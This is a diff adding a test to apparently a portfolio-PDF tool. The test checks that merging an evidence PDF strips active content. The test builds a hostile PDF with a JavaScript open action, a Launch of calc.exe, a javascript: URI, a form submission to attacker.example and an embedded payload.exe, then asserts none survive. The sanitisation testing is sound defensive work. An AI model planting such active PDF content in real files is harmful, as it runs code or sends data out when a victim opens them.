@@ -3,6 +3,7 @@ import { existsSync, readdirSync, readFileSync } from "node:fs";
 import { createHash } from "node:crypto";
 import { cp, mkdir, readdir, readFile, rename, symlink, truncate, writeFile } from "node:fs/promises";
 import { dirname, join } from "node:path";
+import { PDFDocument, PDFName, PDFString, StandardFonts, type PDFObject } from "pdf-lib";
 import { beforeAll, describe, expect, it } from "vitest";
 import { checkWorkspace } from "../src/check/check-workspace.ts";
 import { findLeaks, findLeaksIn, WINDOW } from "../src/privacy/final-pass.ts";
@@ -443,4 +444,45 @@ describe("hostile inputs: where a PDF is written", () => {
     expect(runCli(["pdf", "--dir", ws, "--out", join(site, "portfolio.pdf")]).status).toBe(0);
     expect(runCli(["build", "--no-sign", "--dir", ws, "--out", site]).status).toBe(0);
   }, 120_000);
+});
+
+describe("hostile inputs: an evidence PDF that would act when opened", () => {
+  it("merges its pages without JavaScript, launch or form actions, attachments or media, keeping how they look and their web links", async () => {
+    // An evidence PDF as a hostile one would be made: every way a PDF can act when opened or clicked.
+    const evil = await PDFDocument.create();
+    const page = evil.addPage([595, 842]);
+    page.drawText("Minutes of the forum, as evidence", { x: 50, y: 780, size: 14, font: await evil.embedFont(StandardFonts.Helvetica) });
+    const ctx = evil.context;
+    const js = ctx.obj({ S: "JavaScript", JS: PDFString.of("app.alert('pwned')") });
+    const link = (action: PDFObject, y: number) => ctx.register(ctx.obj({ Type: "Annot", Subtype: "Link", Rect: [50, y, 300, y + 20], A: action }));
+    const payload = ctx.register(ctx.obj({ Type: "EmbeddedFile" }));
+    const form = ctx.register(ctx.obj({ FT: "Tx", T: PDFString.of("total"), AA: { K: js } }));
+    page.node.set(PDFName.of("Annots"), ctx.obj([
+      link(js, 700),
+      link(ctx.obj({ S: "Launch", F: PDFString.of("calc.exe") }), 670),
+      link(ctx.obj({ S: "URI", URI: PDFString.of("javascript:alert(1)") }), 640),
+      link(ctx.obj({ S: "SubmitForm", F: PDFString.of("https://attacker.example/collect") }), 610),
+      link(ctx.obj({ S: "URI", URI: PDFString.of("https://example.org/minutes"), Next: js }), 580),
+      ctx.register(ctx.obj({ Type: "Annot", Subtype: "FileAttachment", Rect: [50, 500, 70, 520], FS: { Type: "Filespec", F: PDFString.of("payload.exe"), EF: { F: payload } } })),
+      ctx.register(ctx.obj({ Type: "Annot", Subtype: "Widget", Rect: [50, 450, 300, 470], Parent: form, AA: { E: js } })),
+    ]));
+    page.node.set(PDFName.of("AA"), ctx.obj({ O: js }));
+    evil.catalog.set(PDFName.of("OpenAction"), js);
+
+    const dir = join(await tempDir(), "portfolio");
+    await cp(join(repoRoot, "portfolio"), dir, { recursive: true });
+    await writeFile(join(dir, "evidence", "forum-minutes.pdf"), await evil.save());
+    const first = join(dir, "reflections", "2026-01-14-mapping-the-network-i-already-have.md");
+    await writeFile(first, (await readFile(first, "utf8")).replace("evidence:\n", "evidence:\n  - evidence/forum-minutes.pdf\n"));
+    const pdf = join(dirname(dir), "portfolio.pdf");
+    expect(runCli(["pdf", "--dir", dir, "--out", pdf]).status).toBe(0);
+
+    expect(tool("qpdf", ["--check", pdf]).status).toBe(0);
+    const objects = tool("qpdf", ["--json", "--json-key=qpdf", pdf]).stdout;
+    for (const active of ['"/S": "/JavaScript"', '"/JS"', '"/S": "/Launch"', '"/S": "/SubmitForm"', '"/AA"', '"/OpenAction"', "/FileAttachment", "payload.exe", "javascript:", "calc.exe"]) expect(objects, active).not.toContain(active);
+    // Only this tool's own attachment (the sources' hashes) is embedded.
+    expect(objects.match(/"\/Type": "\/EmbeddedFile"/g)).toHaveLength(1);
+    expect(objects).toContain('"/URI": "u:https://example.org/minutes"');
+    expect(tool("pdftotext", [pdf, "-"]).stdout).toContain("Minutes of the forum, as evidence");
+  }, 60_000);
 });
